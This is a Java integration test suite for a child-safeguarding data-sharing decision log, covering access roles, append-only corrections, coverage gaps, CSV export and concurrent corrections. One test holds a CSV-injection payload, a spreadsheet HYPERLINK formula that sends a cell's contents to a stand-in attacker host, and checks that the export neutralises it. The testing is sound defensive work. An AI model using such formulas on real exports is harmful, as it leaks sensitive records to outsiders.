package org.concordat.it.postgresql;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.json.Json;
import jakarta.json.JsonArray;
import jakarta.json.JsonObject;
import jakarta.json.JsonObjectBuilder;
import java.net.URL;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.sql.SQLException;
import java.util.List;
import org.concordat.it.support.Api;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.Future;
import java.util.concurrent.Executors;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.CountDownLatch;
import java.util.ArrayList;
import org.concordat.it.support.Database;
import org.concordat.it.support.Deployments;
import org.concordat.it.support.Partnership;
import org.concordat.it.support.SharingDecisionJson;
import org.concordat.it.support.WebSession;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The sharing decision log over the API: recording with its checks, who reads what, corrections that keep the
 * original, the database refusing to rewrite an entry, the CSV export and the coverage gaps.
 */
@ExtendWith(ArquillianExtension.class)
class SharingDecisionIT {

    @Deployment(testable = false)
    static WebArchive deployment() {
        return Deployments.concordat();
    }

    @ArquillianResource
    URL base;

    Partnership partnership;
    long school;
    long council;
    long charity;
    long versionId;
    Partnership.Member teacher;

    @BeforeEach
    void partnership() throws Exception {
        partnership = Partnership.asAdministrator(base.toURI());
        council = partnership.createOrganisation(Partnership.unique("Decision Council"), "LOCAL_AUTHORITY", true).getJsonNumber("id").longValue();
        school = partnership.createOrganisation(Partnership.unique("Decision School"), "EDUCATION", true).getJsonNumber("id").longValue();
        charity = partnership.createOrganisation(Partnership.unique("Decision Charity"), "VOLUNTARY", false).getJsonNumber("id").longValue();
        versionId = approvedSchoolToCouncil();
        teacher = partnership.createMember(school, "PRACTITIONER");
    }

    /** An agreement in force: the school sends education data about children to the council, for children in need. */
    private long approvedSchoolToCouncil() {
        Partnership.Member lead = partnership.createMember(council, "IG_LEAD");
        long id = partnership.submittedAgreement(lead, school, "School and council", "2026-04-01")
                .getJsonNumber("versionId").longValue();
        for (long organisation : List.of(council, school)) {
            Api.Response approved = partnership.createMember(organisation, "SIGNATORY").api().post("/api/v1/agreements/versions/"
                    + id + "/decisions", Json.createObjectBuilder().add("decision", "APPROVED").build());
            assertEquals(201, approved.status(), approved.body());
        }
        return id;
    }

    private JsonObjectBuilder shared() {
        return SharingDecisionJson.shared(council, versionId, "CS-2026-4471");
    }

    @Test
    void aPractitionerRecordsADecisionAndReadsTheirOwnLog() {
        Api.Response recorded = teacher.api().post("/api/v1/sharing-decisions", shared().build());
        assertEquals(201, recorded.status(), recorded.body());
        JsonObject entry = recorded.json();
        assertEquals("SHARED", entry.getString("decision"));
        assertTrue(entry.getString("agreement").endsWith("version 1"), entry.toString());
        assertEquals("Child in need", entry.getString("purpose"));
        assertEquals("CS-2026-4471", entry.getString("caseReference"));

        JsonArray mine = teacher.api().get("/api/v1/sharing-decisions").array();
        assertEquals(1, mine.size());
        Partnership.Member colleague = partnership.createMember(school, "PRACTITIONER");
        assertEquals(0, colleague.api().get("/api/v1/sharing-decisions").array().size(), "one's own entries only");
        assertEquals(403, teacher.api().get("/api/v1/sharing-decisions?scope=organisation").status(), "the organisation's log is for IG leads and DPOs");

        Partnership.Member schoolLead = partnership.createMember(school, "IG_LEAD");
        assertEquals(1, schoolLead.api().get("/api/v1/sharing-decisions?scope=organisation").array().size());
        assertEquals(0, schoolLead.api().get("/api/v1/sharing-decisions?scope=organisation&decision=NOT_SHARED").array().size());
        Api.Response paged = schoolLead.api().get("/api/v1/sharing-decisions?scope=organisation&size=1&page=2");
        assertEquals(0, paged.array().size(), "a page past the end is empty");
        assertEquals("1", paged.raw().headers().firstValue("X-Total-Count").orElseThrow(), "and still says how many there are");
        assertTrue(String.join(",", paged.raw().headers().allValues("Link")).contains("rel=\"prev\""));
        assertEquals(400, schoolLead.api().get("/api/v1/sharing-decisions?scope=organisation&size=0").status());
        Partnership.Member councilLead = partnership.createMember(council, "IG_LEAD");
        assertEquals(0, councilLead.api().get("/api/v1/sharing-decisions?scope=organisation").array().size(),
                "the recipient's organisation does not read the sender's log");
    }

    @Test
    void badInputIsRefusedFieldByFieldAndNothingIsRecorded() {
        Api.Response refused = teacher.api().post("/api/v1/sharing-decisions", shared().add("familyInformed", false)
                .add("rationale", " ").add("caseReference", "Jane Smith").add("lawfulBasis", "NOT-A-CODE").build());
        assertEquals(400, refused.status(), refused.body());
        List<String> fields = refused.json().getJsonArray("errors").stream().map(e -> e.asJsonObject().getString("field")).toList();
        assertTrue(fields.containsAll(List.of("familyNotInformedReason", "rationale", "caseReference", "lawfulBasis")), fields.toString());

        long other = partnership.createOrganisation(Partnership.unique("Decision Police"), "POLICE", true).getJsonNumber("id").longValue();
        Api.Response wrongAgreement = teacher.api().post("/api/v1/sharing-decisions", shared().add("recipientOrganisationId", other).build());
        assertEquals(400, wrongAgreement.status());
        assertTrue(wrongAgreement.body().contains("\"agreement\""), "the agreement does not bind that recipient: " + wrongAgreement.body());
        assertEquals(0, teacher.api().get("/api/v1/sharing-decisions").array().size());
        assertEquals(403, partnership.createMember(school, "SIGNATORY").api().post("/api/v1/sharing-decisions", shared().build()).status());

        Api.Response whose = teacher.api().post("/api/v1/sharing-decisions", shared().add("consentSought", true)
                .remove("consentNotSoughtReason").build());
        assertEquals(400, whose.status(), whose.body());
        assertTrue(whose.body().contains("\"consentFrom\""), "whose consent was sought: " + whose.body());
        assertEquals(0, teacher.api().get("/api/v1/sharing-decisions").array().size());
    }

    @Test
    void consentSoughtFromAParentIsRecordedAsSuch() {
        Api.Response recorded = teacher.api().post("/api/v1/sharing-decisions", shared().add("consentSought", true)
                .add("consentFrom", "PARENT_OR_CARER").remove("consentNotSoughtReason").build());
        assertEquals(201, recorded.status(), recorded.body());
        assertEquals("PARENT_OR_CARER", recorded.json().getString("consentFrom"));
        assertEquals("PARENT_OR_CARER", Database.single("select consent_from from sharing_decision where id = ?",
                recorded.json().getJsonNumber("id").longValue()));
    }

    @Test
    void aCorrectionIsANewEntryAndTheOriginalCannotBeRewritten() {
        long first = teacher.api().post("/api/v1/sharing-decisions", shared().build()).json().getJsonNumber("id").longValue();
        Api.Response corrected = teacher.api().post("/api/v1/sharing-decisions/" + first + "/corrections",
                shared().add("caseReference", "CS-2026-4477").build());
        assertEquals(201, corrected.status(), corrected.body());
        assertEquals(first, corrected.json().getJsonNumber("correctsId").longValue());
        JsonArray mine = teacher.api().get("/api/v1/sharing-decisions").array();
        assertEquals(2, mine.size());
        assertTrue(mine.stream().map(e -> e.asJsonObject()).filter(e -> e.getJsonNumber("id").longValue() == first)
                .findFirst().orElseThrow().getBoolean("corrected"));
        assertEquals(400, teacher.api().post("/api/v1/sharing-decisions/" + first + "/corrections", shared().build()).status(),
                "correct the latest entry, not one already corrected");
        assertEquals(404, partnership.createMember(council, "PRACTITIONER").api().post("/api/v1/sharing-decisions/" + first
                + "/corrections", shared().build()).status(), "another organisation's entry is not found");

        SQLException rewrite = assertThrows(SQLException.class,
                () -> Database.execute("update sharing_decision set rationale = 'changed' where id = ?", first));
        assertTrue(rewrite.getMessage().contains("append-only"), rewrite.getMessage());
        assertThrows(SQLException.class, () -> Database.execute("delete from sharing_decision where id = ?", first));
    }

    @Test
    void aCorrectionStartsFromTheEntryForThoseWhoMayCorrectItOnly() {
        long first = teacher.api().post("/api/v1/sharing-decisions", shared().build()).json().getJsonNumber("id").longValue();
        String page = "/app/decision.xhtml?corrects=" + first;

        WebSession.Page own = teacher.web().open(page);
        assertEquals(200, own.status());
        assertTrue(own.contains("You are correcting entry " + first + " of "), "the notice at the top");
        assertTrue(own.contains("value=\"CS-2026-4471\""), "the case reference, pre-filled");
        assertTrue(own.contains("Attendance has fallen sharply and the child disclosed worries at home."), "the reasons, pre-filled");

        for (Partnership.Member outsider : List.of(partnership.createMember(council, "PRACTITIONER"),
                partnership.createMember(council, "IG_LEAD"))) {
            refusedPage(outsider.web().open(page), "Sharing decision " + first + " was not found");
        }
        refusedPage(teacher.web().open("/app/decision.xhtml?corrects=abc"), "There is no entry");
        Partnership.Member colleague = partnership.createMember(school, "PRACTITIONER");
        refusedPage(colleague.web().open(page), "Only whoever recorded a decision");
        refusedPage(partnership.createMember(school, "SIGNATORY").web().open(page), "This needs the PRACTITIONER or IG_LEAD or DPO role.");

        Partnership.Member schoolLead = partnership.createMember(school, "IG_LEAD");
        WebSession.Page lead = schoolLead.web().open(page);
        assertTrue(lead.contains("You are correcting entry " + first + " of "), "the IG lead may correct the practitioner's entry");
        assertTrue(lead.contains("value=\"CS-2026-4471\""));
        JsonObject listed = schoolLead.api().get("/api/v1/sharing-decisions?scope=organisation").array().getJsonObject(0);
        assertTrue(listed.getBoolean("correctable"));
        assertEquals(List.of("EDUCATION_DATA"), listed.getJsonArray("dataCategoryCodes").getValuesAs(jakarta.json.JsonString::getString));
        assertEquals("CHILD_IN_NEED", listed.getString("purposeCode"));

        long second = schoolLead.api().post("/api/v1/sharing-decisions/" + first + "/corrections",
                shared().add("rationale", "Corrected by the IG lead: attendance has fallen to 60%.").build()).json()
                .getJsonNumber("id").longValue();
        refusedPage(teacher.web().open(page), "Entry " + first + " has already been corrected by entry " + second);
        JsonObject old = teacher.api().get("/api/v1/sharing-decisions").array().getJsonObject(0);
        assertEquals(first, old.getJsonNumber("id").longValue(), "the practitioner's own log holds the entry they recorded");
        assertEquals(second, old.getJsonNumber("correctedById").longValue());
        assertFalse(old.getBoolean("correctable"), "no correcting an entry twice");
        refusedPage(teacher.web().open("/app/decision.xhtml?corrects=" + second), "Only whoever recorded a decision");
        assertTrue(schoolLead.web().open("/app/decision.xhtml?corrects=" + second).contains("You are correcting entry " + second),
                "the latest entry can be corrected in its turn");
    }

    /** A plain message at the top of the page, no form to fill in and no stack trace. */
    private static void refusedPage(WebSession.Page page, String message) {
        assertEquals(200, page.status(), page.body());
        assertTrue(page.contains(message), "'" + message + "' in " + page.body());
        assertFalse(page.contains("id=\"decision\""), "no form");
        // (The layout names ViewExpiredException in its AJAX handler: look for the traces of a thrown one instead.)
        assertFalse(page.contains("NotFoundException") || page.contains("AccessDeniedException") || page.contains("Caused by")
                || page.contains("at org.concordat."), "no stack trace: " + page.body());
    }

    @Test
    void uncoveredRoutesBecomeCoverageGapsAndTheLogExportsAsCsv() throws Exception {
        for (int i = 0; i < 2; i++) {
            Api.Response check = teacher.api().post("/api/v1/route-checks", Json.createObjectBuilder().add("toOrganisationId", charity)
                    .add("dataSubjects", Json.createArrayBuilder().add("CHILD")).add("dataCategories", Json.createArrayBuilder().add("EDUCATION_DATA"))
                    .add("purpose", "EARLY_HELP").build());
            assertEquals("NOT_COVERED", check.json().getString("outcome"), check.body());
        }
        teacher.api().post("/api/v1/route-checks", Json.createObjectBuilder().add("toOrganisationId", council)
                .add("dataSubjects", Json.createArrayBuilder().add("CHILD")).add("dataCategories", Json.createArrayBuilder().add("EDUCATION_DATA"))
                .add("purpose", "CHILD_IN_NEED").build());
        teacher.api().post("/api/v1/sharing-decisions", shared().add("decision", "NOT_SHARED").add("recipientOrganisationId", charity)
                .add("purpose", "EARLY_HELP").remove("agreementVersionId").add("noAgreementReason", "OTHER").remove("lawfulBasis")
                .add("routeOutcome", "NOT_COVERED").add("rationale", "No agreement with the charity: asked the DPO first.").build());

        Partnership.Member schoolDpo = partnership.createMember(school, "DPO");
        JsonArray gaps = schoolDpo.api().get("/api/v1/sharing-decisions/coverage-gaps").array();
        assertEquals(1, gaps.size(), "covered routes are no gaps: " + gaps);
        assertEquals(2, gaps.getJsonObject(0).getInt("times"));
        assertEquals("Early help", gaps.getJsonObject(0).getString("purpose"));
        assertEquals(403, teacher.api().get("/api/v1/sharing-decisions/coverage-gaps").status());

        HttpResponse<String> csv = HttpClient.newHttpClient().send(HttpRequest.newBuilder(base.toURI()
                        .resolve("/api/v1/sharing-decisions/export?decision=NOT_SHARED")).header("Accept", "text/csv")
                .header("Authorization", "Bearer " + schoolDpo.token()).build(), HttpResponse.BodyHandlers.ofString());
        assertEquals(200, csv.statusCode(), csv.body());
        assertTrue(csv.body().startsWith("Entry,Recorded at,Recorded by,Decision"), csv.body());
        assertTrue(csv.body().contains("No agreement: OTHER"), csv.body());
        assertFalse(csv.body().contains(",SHARED,"), "filtered to decisions not to share");
    }

    /**
     * CSV injection (issue 25): reasons typed as a spreadsheet formula are recorded as typed, and come out of the
     * organisation's export as text — a single quote in front — while the entry number stays a number.
     */
    @Test
    void aFormulaInTheReasonsIsExportedAsText() throws Exception {
        String formula = "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Open the case\")";
        Api.Response recorded = teacher.api().post("/api/v1/sharing-decisions", shared().add("decision", "NOT_SHARED")
                .add("familyInformed", false).add("familyNotInformedReason", "-1 visit left before the conference")
                .add("rationale", formula).add("caseReference", "CS-2026-7001").build());
        assertEquals(201, recorded.status(), recorded.body());
        long id = recorded.json().getJsonNumber("id").longValue();
        assertEquals(formula, recorded.json().getString("rationale"), "recorded as typed: the log is not the place to change it");

        Partnership.Member schoolLead = partnership.createMember(school, "IG_LEAD");
        HttpResponse<String> csv = HttpClient.newHttpClient().send(HttpRequest.newBuilder(base.toURI()
                        .resolve("/api/v1/sharing-decisions/export?caseReference=CS-2026-7001")).header("Accept", "text/csv")
                .header("Authorization", "Bearer " + schoolLead.token()).build(), HttpResponse.BodyHandlers.ofString());
        assertEquals(200, csv.statusCode(), csv.body());
        List<org.apache.commons.csv.CSVRecord> rows = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader()
                .setSkipHeaderRecord(true).get().parse(new java.io.StringReader(csv.body())).getRecords();
        assertEquals(1, rows.size(), csv.body());
        assertEquals("'" + formula, rows.get(0).get("Reasons"), csv.body());
        assertEquals("'-1 visit left before the conference", rows.get(0).get("Why not informed"));
        assertEquals(String.valueOf(id), rows.get(0).get("Entry"), "a number stays a number");
        assertFalse(csv.body().contains("," + formula) || csv.body().contains(",\"" + formula), "no cell starts with the formula");
    }

    /**
     * Eight corrections of one entry sent at the same instant: exactly one is written, every other is told why, and
     * none fails with a server error. The application's own check races; the database's unique index (V19) does not.
     */
    @Test
    void correctionsOfOneEntryAtTheSameInstantLetExactlyOneThrough() throws Exception {
        long first = teacher.api().post("/api/v1/sharing-decisions", shared().build()).json().getJsonNumber("id").longValue();
        int racers = 8;
        CountDownLatch start = new CountDownLatch(1);
        ExecutorService pool = Executors.newFixedThreadPool(racers);
        try {
            List<Future<Api.Response>> sent = new ArrayList<>();
            for (int i = 0; i < racers; i++) {
                String reference = "CS-2026-50" + i;
                sent.add(pool.submit(() -> {
                    start.await();
                    return teacher.api().post("/api/v1/sharing-decisions/" + first + "/corrections",
                            shared().add("caseReference", reference).build());
                }));
            }
            start.countDown();
            List<Api.Response> answers = new ArrayList<>();
            for (Future<Api.Response> f : sent) {
                answers.add(f.get(60, TimeUnit.SECONDS));
            }
            assertEquals(1, answers.stream().filter(r -> r.status() == 201).count(), answers.toString());
            answers.stream().filter(r -> r.status() != 201).forEach(r -> {
                assertEquals(400, r.status(), r.body());
                assertTrue(r.body().contains("Entry " + first + " has"), r.body());
            });
        } finally {
            pool.shutdownNow();
        }
        assertEquals(1L, Database.single("select count(*) from sharing_decision where corrects_id = ?", first));
        // A copy of the correction, as a script might insert it: the index refuses it.
        assertThrows(SQLException.class, () -> Database.execute("create temp table copied as select * from sharing_decision"
                        + " where corrects_id = ?; update copied set id = nextval('sharing_decision_seq');"
                        + " insert into sharing_decision select * from copied", first),
                "the database refuses a second correction of the same entry");
    }
}
